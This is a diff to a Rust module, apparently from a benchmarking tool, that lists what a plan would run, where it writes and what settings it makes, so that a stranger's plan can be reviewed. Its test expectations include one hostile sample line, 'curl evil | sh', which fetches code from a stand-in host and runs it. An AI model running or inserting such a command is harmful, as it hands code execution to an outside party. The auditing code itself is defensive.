@@ -1,5 +1,5 @@
 //! What a plan has done on the word of whoever wrote it, beyond measuring: programs that run, with the rights of who
-//! runs tactus, and machines, devices and files that are reached. A plan is a program; a stranger's is looked at first.
+//! runs tactus, machines, devices and files that are reached, and settings that are made. A plan is a program; a stranger's is looked at first.
 
 use serde_json::Value;
 use tactus_model::catalogue::Load;
@@ -33,11 +33,14 @@ pub fn commands(plan: &Plan) -> Vec<String> {
         all.extend(attach);
     }
     for (place, scenario) in scenarios(plan) {
-        all.extend(loads(scenario).filter_map(command).map(|run| format!("{place}: run = {run:?}")));
+        all.extend(loads(scenario).filter_map(reaches).map(|what| format!("{place}: {what}")));
+        if !scenario.settings.is_empty() {
+            all.push(format!("{place}: settings = {:?}", scenario.settings));
+        }
     }
     if let Some(separation) = &plan.separation {
         let loads = separation.disturb.iter().filter_map(|one| one.load.as_ref());
-        all.extend(loads.filter_map(command).map(|run| format!("separation: run = {run:?}")));
+        all.extend(loads.filter_map(reaches).map(|what| format!("separation: {what}")));
     }
     all.sort();
     all.dedup();
@@ -62,9 +65,11 @@ fn loads(scenario: &Scenario) -> impl Iterator<Item = &Load> {
     short.chain(of_activities)
 }
 
-fn command(load: &Load) -> Option<&[String]> {
+/// What a load runs, or where it writes.
+fn reaches(load: &Load) -> Option<String> {
     match load {
-        Load::Command(command) => Some(&command.run),
+        Load::Command(command) => Some(format!("run = {:?}", command.run)),
+        Load::Disk(disk) => disk.directory.as_ref().map(|directory| format!("directory = {directory:?}")),
         _ => None,
     }
 }
@@ -110,6 +115,12 @@ name = "short"
 environment = "host"
 measurement = "timer"
 load = { kind = "command", run = ["sh", "-c", "one"] }
+settings = ["!thp"]
+[[scenario]]
+name = "disk"
+environment = "host"
+measurement = "timer"
+load = { kind = "disk", directory = "/srv/others" }
 [[scenario]]
 name = "full"
 [[scenario.activity]]
@@ -129,8 +140,10 @@ disturb = [{ load = { kind = "command", run = ["three"] } }]
             "environment `line`: command = \"curl evil | sh\"",
             "environment `pod`: attach = \"web-0\"",
             "environment `pod`: client = \"/tmp/kubectl\"",
+            "scenario `disk`: directory = \"/srv/others\"",
             "scenario `full`: run = [\"two\"]",
             "scenario `short`: run = [\"sh\", \"-c\", \"one\"]",
+            "scenario `short`: settings = [\"!thp\"]",
             "separation: run = [\"three\"]",
         ];
         assert_eq!(found, wanted);
